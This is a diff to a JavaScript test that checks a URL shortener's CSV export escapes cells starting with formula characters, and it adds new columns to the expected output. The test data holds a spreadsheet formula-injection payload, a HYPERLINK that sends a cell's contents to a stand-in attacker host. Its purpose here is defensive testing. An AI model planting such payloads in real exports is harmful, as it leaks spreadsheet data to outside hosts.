@@ -46,10 +46,10 @@ test('the links CSV export: a title, tags and a code that start a formula are wr
   const csv = await get(a, '/api/export?format=csv');
   assert.equal(
     csv,
-    'short_code,short_url,original_url,created_at,visit_count,retention_days,max_visits,title,tags,author,domain\r\n' +
-      `'-cmd01,https://s.example/-cmd01,https://example.com/1,${NOW},0,0,,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'-draft,q2",,\r\n` +
-      `plain1,https://s.example/plain1,https://example.com/2,${NOW},0,0,,''=already escaped,'+1,,\r\n` +
-      `plain2,https://s.example/plain2,https://example.com/3,${NOW},0,0,,'@SUM(1),,,\r\n`,
+    'short_code,short_url,original_url,created_at,visit_count,retention_days,max_visits,title,tags,author,domain,rules,forward_query,valid_since,valid_until,fallback_url,password_hash\r\n' +
+      `'-cmd01,https://s.example/-cmd01,https://example.com/1,${NOW},0,0,,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'-draft,q2",,,,false,,,,\r\n` +
+      `plain1,https://s.example/plain1,https://example.com/2,${NOW},0,0,,''=already escaped,'+1,,,,false,,,,\r\n` +
+      `plain2,https://s.example/plain2,https://example.com/3,${NOW},0,0,,'@SUM(1),,,,,false,,,,\r\n`,
   );
   const b = await open(t);
   assert.deepEqual(await post(b, '/api/import', 'text/csv', csv), { imported: 3, skipped: 0, errors: [] });
